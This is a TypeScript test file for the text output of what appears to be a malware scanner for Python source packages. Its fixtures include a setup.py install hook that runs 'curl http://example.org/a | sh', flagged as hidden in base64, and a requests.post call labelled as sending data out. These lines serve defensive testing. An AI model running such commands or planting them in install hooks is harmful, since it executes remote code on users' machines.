import { expect, test } from "vitest";
import type { CodeEntry } from "../../analysis/code/code-analysis.ts";
import type { CodeFact } from "../../checks/code/code-facts.ts";
import { type CodeSubject, codeText } from "./code-text.ts";

const ENTRY: CodeEntry = {
  trigger: "download",
  path: "m-1.0/setup.py",
  symbol: null,
  text: null,
  because: "setup-py",
  detail: "setup.py",
  under: [],
};

function fact(more: Partial<CodeFact> = {}): CodeFact {
  return {
    capability: "process.spawn",
    trigger: "download",
    entry: 0,
    path: "m-1.0/setup.py",
    line: 12,
    column: 1,
    callee: "os.system",
    argument: "curl http://example.org/a | sh",
    known: "whole",
    layers: ["base64"],
    via: ["cmdclass install", "Install.run"],
    excerpt: "",
    names: { commands: ["curl"], hosts: ["example.org"], urls: [], paths: [], environment: [] },
    tools: [],
    severity: "high",
    rule: "code/runs-command",
    new: null,
    ...more,
  };
}

const SUBJECT: CodeSubject = {
  title: "m-1.0.tar.gz",
  facts: [fact(), fact({ trigger: "deferred", path: "m-1.0/m.py", via: ["f"], severity: "info" })],
  map: {
    entries: [
      ENTRY,
      { ...ENTRY, trigger: "import", path: "m-1.0/m.py", because: "top-level-import", detail: "import m" },
    ],
    undecided: [{ path: "m-1.0/m.py", line: 3, trigger: "import", what: "budget", why: "its loops used up the steps" }],
    setup: {
      path: "m-1.0/setup.py",
      line: 20,
      open: false,
      changes: [],
      arguments: [
        { name: "name", line: 21, value: { kind: "known", value: "m" } },
        { name: "version", line: 22, value: { kind: "unknown", why: "it is read from the environment" } },
      ],
    },
    declared: [
      { field: "name", at: null, value: { kind: "known", values: ["m"] }, claimed: ["m"] },
      {
        field: "version",
        at: null,
        value: { kind: "kept", values: ["1.0"], why: "pbr works it out." },
        claimed: ["1.0"],
      },
      { field: "requires-dist", at: null, value: { kind: "unknown", why: "Some of it is computed." }, claimed: [] },
    ],
  },
};

const USUAL = { columns: 100, charset: "ascii", detail: "usual", extent: "usual", triggers: [] } as const;

test("draws trigger, file, way and effect, and says what is left out", () => {
  expect(codeText(SUBJECT, USUAL).split("\n")).toEqual([
    "m-1.0.tar.gz",
    "",
    "On download",
    "  It runs as soon as a tool asks for metadata: pip download, pip install --dry-run and pip lock",
    "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
    "  m-1.0/setup.py - setup.py",
    "    cmdclass install > Install.run",
    "       12  HIGH os.system curl http://example.org/a | sh [hidden in base64] [code/runs-command]",
    "",
    "On import",
    "  It runs when the module is imported, for the first time in each process.",
    "  m-1.0/m.py - import m",
    "    not read to the end, line 3: its loops used up the steps",
    "",
    "Commands     curl",
    "Hosts        example.org",
    "",
    "setup() in m-1.0/setup.py:20",
    "  name = m",
    "  version = unknown: it is read from the environment",
    "",
    "What a build would write",
    "  name = m",
    "  version = 1.0: pbr works it out.",
    "  requires-dist = unknown: Some of it is computed.",
    "",
    "Not shown: 1 effect when something calls it (--trigger deferred)",
  ]);
});

test("shows only the moments that are asked, and no line is too wide", () => {
  const options = { ...USUAL, columns: 40, charset: "unicode", triggers: ["deferred"] } as const;
  const lines = codeText(SUBJECT, options).split("\n");
  expect(lines).toContain("When something calls it");
  expect(lines).not.toContain("On download");
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(40);
});

function linesOf(subject: Partial<CodeSubject>, options: Partial<Parameters<typeof codeText>[1]> = {}): string[] {
  const map = { ...SUBJECT.map, undecided: [], setup: null, declared: null, ...subject.map };
  return codeText({ ...SUBJECT, ...subject, map }, { ...USUAL, ...options }).split("\n");
}

test("what is above info is drawn even where something must call it", () => {
  const grave = fact({ trigger: "deferred", path: "m-1.0/m.py", via: ["f"], layers: [] });
  const slight = fact({ ...grave, via: ["g"], severity: "info" });
  const lines = linesOf({ facts: [grave, slight] });

  expect(lines).toContain("       12  HIGH os.system curl http://example.org/a | sh [code/runs-command]");
  expect(lines.at(-1)).toBe("Not shown: 1 effect when something calls it (--trigger deferred)");
});

test("a file that does what stands above already is not one without an effect", () => {
  const entries = [ENTRY, { ...ENTRY, trigger: "import", because: "top-level-import", detail: "import m" } as const];
  const lines = linesOf({ facts: [fact()], map: { ...SUBJECT.map, entries, undecided: [] } });

  expect(lines).toContain("  nothing beyond the above: m-1.0/setup.py");
  expect(lines.join("\n")).not.toContain("without an effect");
});

test("the reason for entering a file stands there once, without the file's own name", () => {
  const details = ["build-backend be", "build-backend be: build_wheel", "line 1 of m-1.0/setup.py"];
  const entries = details.map((detail) => ({ ...ENTRY, detail }));
  const lines = linesOf({ facts: [fact()], map: { ...SUBJECT.map, entries } });

  expect(lines).toContain("  m-1.0/setup.py - build-backend be, line 1");
});

test("of a call that sends something, that it asks somebody is not drawn as well", () => {
  const call = { callee: "requests.post", argument: "https://h.test/", layers: [] } as const;
  const facts = [
    fact({ ...call, capability: "network.request", severity: "info", rule: null }),
    fact({ ...call, capability: "network.exfil", rule: "code/sends-data-out" }),
  ];
  expect(linesOf({ facts }).filter((line) => line.includes("requests.post"))).toEqual([
    "       12  HIGH requests.post https://h.test/ [code/sends-data-out]",
  ]);
});

test("quiet: what is above info, and where", () => {
  const facts = [fact({ layers: [] }), fact({ path: "m-1.0/n.py", severity: "info" })];
  expect(linesOf({ facts }, { detail: "quiet" })).toEqual([
    "m-1.0.tar.gz",
    "On download",
    "  It runs as soon as a tool asks for metadata: pip download, pip install --dry-run and pip lock",
    "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
    "  m-1.0/setup.py - setup.py",
    "    cmdclass install > Install.run",
    "       12  HIGH os.system curl http://example.org/a | sh [code/runs-command]",
  ]);
});

test("fields of a build that are unknown for one reason share a line", () => {
  const value = { kind: "unknown", why: "Some of it is computed." } as const;
  const declared = (["name", "version"] as const).map((field) => ({ field, at: null, value, claimed: [] }));
  expect(linesOf({ map: { ...SUBJECT.map, declared } })).toContain(
    "  name, version = unknown: Some of it is computed.",
  );
});

test("says what braces mean, where there are some", () => {
  const said = "In braces: what is known only when it runs; {$NAME} is a variable of the environment.";
  expect(linesOf({ facts: [fact({ argument: "{$CC} -dumpmachine", known: "part" })] })).toContain(said);
  expect(linesOf({ facts: [fact()] })).not.toContain(said);
});

test("of a long way, its beginning and its end", () => {
  const via = ["a", "b", "c", "d", "e", "f", "g"];
  expect(linesOf({ facts: [fact({ via })] })).toContain("    a > b > ... 2 more > e > f > g");
  expect(linesOf({ facts: [fact({ via: via.slice(0, 6) })] })).toContain("    a > b > c > d > e > f");
  expect(linesOf({ facts: [fact({ via })] }, { extent: "all" })).toContain(`    ${via.join(" > ")}`);
});
